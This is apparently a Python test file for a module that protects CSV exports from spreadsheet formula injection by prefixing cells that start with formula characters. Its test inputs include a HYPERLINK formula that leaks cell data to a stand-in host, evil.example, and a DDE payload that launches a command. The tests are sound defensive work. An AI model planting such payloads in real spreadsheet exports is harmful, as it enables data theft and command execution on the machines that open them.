"""shop.common.safe_csv: cells a spreadsheet would run as formulas are written as text,
numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shop.common.safe_csv import FORMULA_STARTS, SafeCSVWriter, csv_cell

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (-0.5, -0.5),
        (None, ""),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cell(value, written):
    assert csv_cell(value) == written


def test_writer_quotes_and_prefixes():
    out = io.StringIO()
    SafeCSVWriter(out).writerow(["A1", PAYLOAD, Decimal("-12.50"), "-12.50", None])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["A1", "'" + PAYLOAD, "-12.50", "-12.50", ""]
    ]


@given(st.text())
def test_no_text_cell_starts_a_formula_unless_it_is_a_number(text):
    cell = csv_cell(text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only plain numbers keep their sign
    assert cell in (text, "'" + text)


def test_only_ascii_digits_count_as_a_number():
    assert csv_cell("-\u0661\u0662") == "'-\u0661\u0662"  # Arabic-Indic digits: text
